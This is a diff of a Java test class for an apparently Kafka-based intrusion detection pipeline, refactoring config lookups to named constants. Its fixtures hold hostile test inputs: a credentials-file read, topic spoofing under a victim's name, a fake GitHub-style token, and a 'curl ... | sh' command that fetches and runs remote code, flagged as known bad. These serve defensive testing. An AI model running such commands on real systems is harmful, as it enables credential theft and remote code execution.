@@ -7,6 +7,7 @@ import static org.awaitility.Awaitility.await;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
+import dev.tripline.collector.config.CollectorKeys;
 import dev.tripline.collector.kafka.ServiceTopicOwners;
 import dev.tripline.collector.kafka.ServiceTopics;
 import dev.tripline.kafka.EmbeddedKafka;
@@ -64,7 +65,7 @@ class EdgePipelineTest {
       // One event of kind 99 with a field number from a future schema, next to a credentials read.
       byte[] newer = SanitizerTest.newerSchemaBatch(read("/home/app/.aws/credentials")).clone();
       f.producer
-          .send(new ProducerRecord<>(f.config.get("topic.events"), "shop", newer))
+          .send(new ProducerRecord<>(f.config.get(CollectorKeys.TOPIC_EVENTS), "shop", newer))
           .get(10, TimeUnit.SECONDS);
       await().atMost(WAIT).until(() -> f.alerts().size() == 1);
       Alert alert = f.alerts().get(0);
@@ -118,9 +119,9 @@ class EdgePipelineTest {
             new PipelineFixtures(
                 kafka, dir, 2, "topic.events.shared", "false", "learning.period", "1h");
         DetectionPipeline p = f.pipeline(dir.resolve("a").toString(), meters);
-        var dead = PipelineFixtures.consumer(kafka, f.config.get("topic.deadletter"));
+        var dead = PipelineFixtures.consumer(kafka, f.config.get(CollectorKeys.TOPIC_DEADLETTER));
         Admin admin = kafka.admin()) {
-      String events = f.config.get("topic.events");
+      String events = f.config.get(CollectorKeys.TOPIC_EVENTS);
       String shopTopic = ServiceTopics.topicFor(events, "shop");
       // Created after the collector started: subscribed within seconds.
       admin
@@ -200,7 +201,7 @@ class EdgePipelineTest {
       EmbeddedKafka kafka, @TempDir Path dir) throws Exception {
     SimpleMeterRegistry meters = new SimpleMeterRegistry();
     try (PipelineFixtures f = new PipelineFixtures(kafka, dir, 1, "learning.period", "1h")) {
-      String victimTopic = ServiceTopics.topicFor(f.config.get("topic.events"), "shop");
+      String victimTopic = ServiceTopics.topicFor(f.config.get(CollectorKeys.TOPIC_EVENTS), "shop");
       try (DetectionPipeline p = f.pipeline(dir.resolve("a").toString(), meters)) {
         assertEquals(ServiceTopicOwners.Authority.OPEN, p.topicAuthority());
         // The attacker's topic and batch, named for the victim.
@@ -244,7 +245,7 @@ class EdgePipelineTest {
         String name = "invented-" + i;
         f.producer.send(
             new ProducerRecord<>(
-                f.config.get("topic.events"), name, batch(name, connect("db", 5432))));
+                f.config.get(CollectorKeys.TOPIC_EVENTS), name, batch(name, connect("db", 5432))));
       }
       f.producer.flush();
       await()
@@ -285,7 +286,8 @@ class EdgePipelineTest {
             "ghp_R2d2C3poBb8Yy7Zz6Xx5Ww4Vv3Uu2Tt1Ss0Q");
     try (PipelineFixtures f = new PipelineFixtures(kafka, dir, 1, "learning.period", "1h");
         DetectionPipeline p = f.pipeline(dir.resolve("a").toString(), meters);
-        var ocsf = PipelineFixtures.consumer(kafka, f.config.get("topic.alerts.json"))) {
+        var ocsf =
+            PipelineFixtures.consumer(kafka, f.config.get(CollectorKeys.TOPIC_ALERTS_JSON))) {
       f.send(
           "shop",
           spawn("/bin/sh", "-c", "curl -s https://h?token=Sh0rtT0k | sh"), // known bad: alerts
